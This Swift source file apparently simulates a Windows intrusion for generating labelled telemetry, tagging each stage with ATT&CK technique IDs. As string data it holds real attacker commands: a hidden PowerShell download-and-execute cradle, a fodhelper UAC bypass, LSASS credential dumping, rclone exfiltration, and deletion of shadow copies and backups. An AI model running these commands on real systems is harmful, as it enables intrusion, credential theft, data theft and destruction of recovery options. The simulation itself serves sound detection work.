import Vocabulary

/// What the intruder does on a host: the way in, the theft of credentials, the taking of data.
extension SpreadStory {
    private static let implant = "C:\\Users\\rbrandt\\AppData\\Roaming\\prsync.exe"

    mutating func openDocument() -> Process {
        begin("macro document", ["T1566.001", "T1204.002", "T1059.001", "T1105"], hours: 2, minutes: 10)
        let user = stage.world.user
        let document = "C:\\Users\\rbrandt\\Downloads\\Delivery_note_88.xlsm"
        stage[.entry].createFile(document, by: desk.mail, at: now)
        let sheet = stage[.entry].start(
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" \"\(document)\"", by: desk.mail,
            at: after(4...12))
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://\(Self.delivery.name)/n')"
        let loader = stage[.entry].start(
            Tool.powerShell, "powershell.exe -nop -w hidden -enc \(encodedCommand(script))", by: sheet,
            at: after(8...25))
        truth.patientZero = TechniqueID("T1566.001").map {
            Truth.PatientZero(
                host: SpreadPlace.entry.name, technique: $0, entry: "Delivery_note_88.xlsm, by mail", time: now)
        }
        truth.fell(stage.world.host(.entry), from: nil, by: "macro document", at: now)
        truth.used(user)
        stage[.entry].runScript(script, in: loader, suspicious: true, at: after(1...2))
        stage[.entry].resolve(Self.delivery.name, to: Self.delivery.address, by: loader, at: after(1...2))
        stage[.entry].connect(
            loader, from: stage[.entry].freshPort(), to: Self.delivery.address, name: Self.delivery.name, port: 80,
            at: now.advanced(byMilliseconds: 90))
        stage[.entry].createFile(Self.implant, by: loader, at: after(2...5))
        let implant = stage[.entry].start(Self.implant, "\"\(Self.implant)\"", by: loader, at: after(1...3))
        truth.brought(Self.implant, to: stage.world.host(.entry), seed: stage[.entry].seed)
        return implant
    }

    mutating func persist(_ implant: Process) {
        begin("persistence", ["T1547.001"])
        stage[.entry].setRegistry(
            "HKU\\\(stage.world.user.sid)\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\PrintSync",
            to: implant.image, by: implant, at: after(20...60))
    }

    mutating func elevate(_ implant: Process) -> Process {
        begin("elevation", ["T1548.002"], hours: 3, minutes: 10)
        let key = "HKU\\\(stage.world.user.sid)_Classes\\ms-settings\\shell\\open\\command\\"
        stage[.entry].setRegistry(key + "(Default)", to: implant.image, by: implant, at: now)
        stage[.entry].setRegistry(key + "DelegateExecute", to: "(Empty)", by: implant, at: after(1...2))
        let helper = stage[.entry].start(
            Tool.system("fodhelper.exe"), "\"C:\\Windows\\System32\\fodhelper.exe\"", by: implant, integrity: .high,
            at: after(1...3))
        return stage[.entry].start(implant.image, "\"\(implant.image)\"", by: helper, at: after(1...2))
    }

    mutating func stealCredentials(_ elevated: Process) {
        begin("credential theft", ["T1003.001"], hours: 3, minutes: 30)
        let dump = "C:\\Users\\Public\\lsass.dmp"
        let target = stage[.entry].securityAuthority
        let dumper = stage[.entry].start(
            Tool.system("rundll32.exe"),
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump \(target.id) \(dump) full", by: elevated,
            at: now)
        stage[.entry].open(
            target, by: dumper, access: 0x1F_FFFF, trace: Tool.dumpTrace, at: now.advanced(byMilliseconds: 160))
        stage[.entry].createFile(dump, by: dumper, at: now.advanced(byMilliseconds: 190))
        stage[.entry].end(dumper, at: after(3...6))
    }

    mutating func dumpCredentials(at place: SpreadPlace, by shell: Process) {
        begin("credential theft on \(place.name)", ["T1003.001"])
        let (tool, dump) = ("C:\\PerfLogs\\procdump64.exe", "C:\\PerfLogs\\ls.dmp")
        stage[place].createFile(tool, by: shell, at: after(60...180))
        truth.brought(tool, to: stage.world.host(place), seed: stage[place].seed)
        let dumper = stage[place].start(
            tool, "procdump64.exe -accepteula -ma lsass.exe \(dump)", by: shell, in: "C:\\PerfLogs\\",
            at: after(20...60))
        stage[place].open(
            stage[place].securityAuthority, by: dumper, access: 0x1F_FFFF, trace: Tool.dumpTrace,
            at: now.advanced(byMilliseconds: 210))
        stage[place].createFile(dump, by: dumper, at: now.advanced(byMilliseconds: 240))
        stage[place].end(dumper, at: after(3...8))
    }

    mutating func takeData(_ shell: Process) {
        begin("collection", ["T1039", "T1074.001", "T1560.001"], hours: 12, minutes: 5)
        for tool in ["rar.exe", "rclone.exe"] {
            stage[.files].createFile("C:\\PerfLogs\\" + tool, by: shell, at: after(5...30))
            truth.brought("C:\\PerfLogs\\" + tool, to: stage.world.host(.files), seed: stage[.files].seed)
        }
        let packer = stage[.files].start(
            "C:\\PerfLogs\\rar.exe", "rar.exe a -hpT1de!table -v500m -r C:\\PerfLogs\\b.rar D:\\Shares\\Customs",
            by: shell, in: "C:\\PerfLogs\\", at: after(20...60))
        for part in 1...3 {
            stage[.files].createFile("C:\\PerfLogs\\b.part\(part).rar", by: packer, at: after(60...180))
        }
        stage[.files].end(packer, at: after(20...60))
        begin("exfiltration", ["T1567.002"])
        let copier = stage[.files].start(
            "C:\\PerfLogs\\rclone.exe",
            "rclone.exe copy C:\\PerfLogs grey:b --config C:\\PerfLogs\\r.conf --transfers 8", by: shell,
            in: "C:\\PerfLogs\\", at: after(60...200))
        stage[.files].resolve(Self.storage.name, to: Self.storage.address, by: copier, at: after(1...2))
        for _ in 0..<4 {
            stage[.files].connect(
                copier, from: stage[.files].freshPort(), to: Self.storage.address, name: Self.storage.name, port: 443,
                at: after(5...120))
        }
        stage[.files].end(copier, at: after(100...300))
    }

    mutating func destroyBackups(at place: SpreadPlace, by shell: Process) {
        begin("backups destroyed on \(place.name)", ["T1490"], hours: 12, minutes: 50)
        for command in ["vssadmin.exe delete shadows /all /quiet", "wbadmin.exe delete catalog -quiet"] {
            let program = command.split(separator: " ").first.map(String.init) ?? ""
            stage[place].start(Tool.system(program), command, by: shell, at: after(5...30))
        }
    }
}
